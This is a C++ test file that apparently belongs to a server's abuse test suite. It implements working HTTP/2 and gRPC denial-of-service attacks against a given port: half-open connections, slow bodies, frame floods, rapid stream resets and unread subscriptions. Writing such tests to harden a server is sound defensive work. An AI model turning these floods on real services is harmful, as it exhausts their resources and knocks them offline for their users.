#include "tests/abuse/attacks.h"

#include <poll.h>

#include <algorithm>
#include <cstdint>
#include <list>
#include <utility>
#include <vector>

#include "absl/time/clock.h"
#include "absl/time/time.h"
#include "tests/abuse/http2_socket.h"

namespace hearsay::testing {
namespace {

// How long an attacker waits for news before it looks whether it should stop.
constexpr int kPatienceMs = 20;
// Frames sent in one go.
constexpr int kBurst = 64;
// Streams of one connection before it connects again; odd numbers.
constexpr uint32_t kStreamMax = 100'000;

// Waits until a connection has something to read, or has gone.
void WaitForNews(const std::list<Http2Socket>& sockets) {
  std::vector<pollfd> waits;
  for (const Http2Socket& socket : sockets) {
    waits.push_back({socket.descriptor(), POLLIN, 0});
  }
  poll(waits.data(), waits.size(), kPatienceMs);
}

// Drops the connections that the server has closed.
void DropClosed(std::list<Http2Socket>& sockets, AttackState& state) {
  for (auto socket = sockets.begin(); socket != sockets.end();) {
    if (socket->Forget()) {
      ++socket;
      continue;
    }
    socket = sockets.erase(socket);
    ++state.closed_count;
  }
}

// Holds the connections until the attack is stopped or all are closed.
void Hold(std::list<Http2Socket>& sockets, AttackState& state) {
  while (!state.stop && !sockets.empty()) {
    WaitForNews(sockets);
    DropClosed(sockets, state);
  }
}

// One of a flood's connections.
struct Flooder {
  explicit Flooder(int port) : socket(port) { socket.Send(Http2Preface()); }

  Http2Socket socket;
  uint32_t stream = 1;  // the next
};

// Sends what `next` makes for a connection, in `bursts_max` bursts, on `count`
// connections.
void Flood(int port, int count, int bursts_max,
           const std::function<std::string(Flooder&)>& next,
           AttackState& state) {
  std::list<Flooder> flooders;
  int bursts = 0;
  while (!state.stop && bursts < bursts_max) {
    while (static_cast<int>(flooders.size()) < count) {
      flooders.emplace_back(port);
    }
    for (auto flooder = flooders.begin(); flooder != flooders.end();) {
      const bool sent = flooder->socket.Send(next(*flooder));
      ++bursts;
      // What was taken in part is broken from then on.
      if (sent && flooder->socket.Forget() && flooder->stream < kStreamMax) {
        ++flooder;
        continue;
      }
      flooder = flooders.erase(flooder);
      ++state.closed_count;
    }
  }
  state.done = true;
}

}  // namespace

Attack HoldHalfOpen(int port, int count) {
  return [=](AttackState& state) {
    const std::string beginning = Http2Preface().substr(0, 10);
    std::list<Http2Socket> sockets;
    for (int i = 0; i < count; ++i) {
      sockets.emplace_back(port);
      if (i % 2 == 0) sockets.back().Send(beginning);
    }
    state.done = true;
    Hold(sockets, state);
  };
}

Attack SendSlowBodies(int port, int count, int bytes, const std::string& path) {
  return [=](AttackState& state) {
    constexpr uint32_t kMessageBytes = 1'000'000;
    std::list<Http2Socket> sockets;
    for (int i = 0; i < count; ++i) {
      Http2Socket& socket = sockets.emplace_back(port);
      socket.Send(Http2Preface());
      socket.Send(Http2Call(1, path));
      socket.Send(Http2Data(1, GrpcPrefix(kMessageBytes), /*last=*/false));
    }
    for (int sent = 0; !state.stop; ++sent) {
      state.done = sent >= bytes;
      for (Http2Socket& socket : sockets) {
        socket.Send(Http2Data(1, "x", /*last=*/false));
      }
      const absl::Time next = absl::Now() + absl::Seconds(1);
      while (!state.stop && absl::Now() < next && !sockets.empty()) {
        WaitForNews(sockets);
        DropClosed(sockets, state);
      }
    }
  };
}

Attack FloodFrames(int port, int count, const std::string& frame,
                   int frames_max) {
  return [=](AttackState& state) {
    std::string burst;
    for (int i = 0; i < kBurst; ++i) burst += frame;
    Flood(
        port, count, frames_max / kBurst, [&](Flooder&) { return burst; },
        state);
  };
}

Attack ResetRapidly(int port, int count, const std::string& path,
                    int calls_max) {
  return [=](AttackState& state) {
    const auto next = [&](Flooder& flooder) {
      std::string burst;
      for (int i = 0; i < kBurst; ++i, flooder.stream += 2) {
        burst += Http2Call(flooder.stream, path);
        burst += Http2Reset(flooder.stream);
      }
      return burst;
    };
    Flood(port, count, calls_max / kBurst, next, state);
  };
}

Attack SubscribeWithoutReading(int port, int count, const std::string& path) {
  return [=](AttackState& state) {
    std::vector<Http2Socket> sockets;
    for (int i = 0; i < count; ++i) {
      Http2Socket& socket = sockets.emplace_back(port);
      socket.Send(Http2Preface());
      socket.Send(Http2Call(1, path));
      socket.Send(Http2Data(1, GrpcPrefix(0), /*last=*/true));
    }
    state.done = true;
    while (!state.stop) poll(nullptr, 0, kPatienceMs);
  };
}

}  // namespace hearsay::testing
